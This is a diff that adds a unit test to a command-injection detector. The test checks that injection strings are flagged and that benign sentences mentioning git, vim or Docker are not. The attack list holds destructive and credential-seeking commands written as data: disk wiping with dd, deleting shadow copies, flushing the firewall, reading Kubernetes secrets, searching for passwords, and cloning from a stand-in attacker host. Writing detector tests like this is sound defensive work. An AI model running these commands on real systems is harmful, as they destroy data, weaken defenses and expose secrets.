@@ -366,5 +366,39 @@ TEST(CmdiTest, BatchControlStatements) {
   }
 }
 
+// Administration, container, database and debugging tools after a
+// separator; tools named by a short English word or two letters need an
+// action, an option or a path after them.
+TEST(CmdiTest, AdministrationAndDebuggingTools) {
+  const std::vector<std::string> attacks = {
+      ";gdb -batch -ex \"!id\"",
+      ";vim -c \":!id\"",
+      "| visudo",
+      "; systemctl stop firewalld",
+      "&& kubectl get secrets",
+      "; iptables -F",
+      "; mysql -u root -e \"show databases\"",
+      "& schtasks /create /tn x /tr calc.exe",
+      "& vssadmin delete shadows /all",
+      "& findstr /si password *.txt",
+      "; docker run -v /:/mnt alpine",
+      "; git clone https://evil.example/x.git",
+      "&& apt install nmap",
+      "; dd if=/dev/zero of=/dev/sda",
+      "; ln -s /etc/shadow x",
+      "; reboot",
+  };
+  for (const std::string& a : attacks) {
+    Match m;
+    EXPECT_TRUE(Detects(CmdiDetector(), Case{a}, &m)) << a;
+  }
+  for (const std::string b : {"Use git; it is great", "I love vim; emacs is fine too",
+                              "Docker | Kubernetes | Helm", "This is apt; install it",
+                              "L#^*_$,.v5dw|ss&r", "a|dd&b", "tr|xz", "Mount Everest; the tour"}) {
+    Match m;
+    EXPECT_FALSE(Detects(CmdiDetector(), Case{b}, &m)) << b << " -> " << m.rule_id;
+  }
+}
+
 }  // namespace
 }  // namespace fnguard::detect
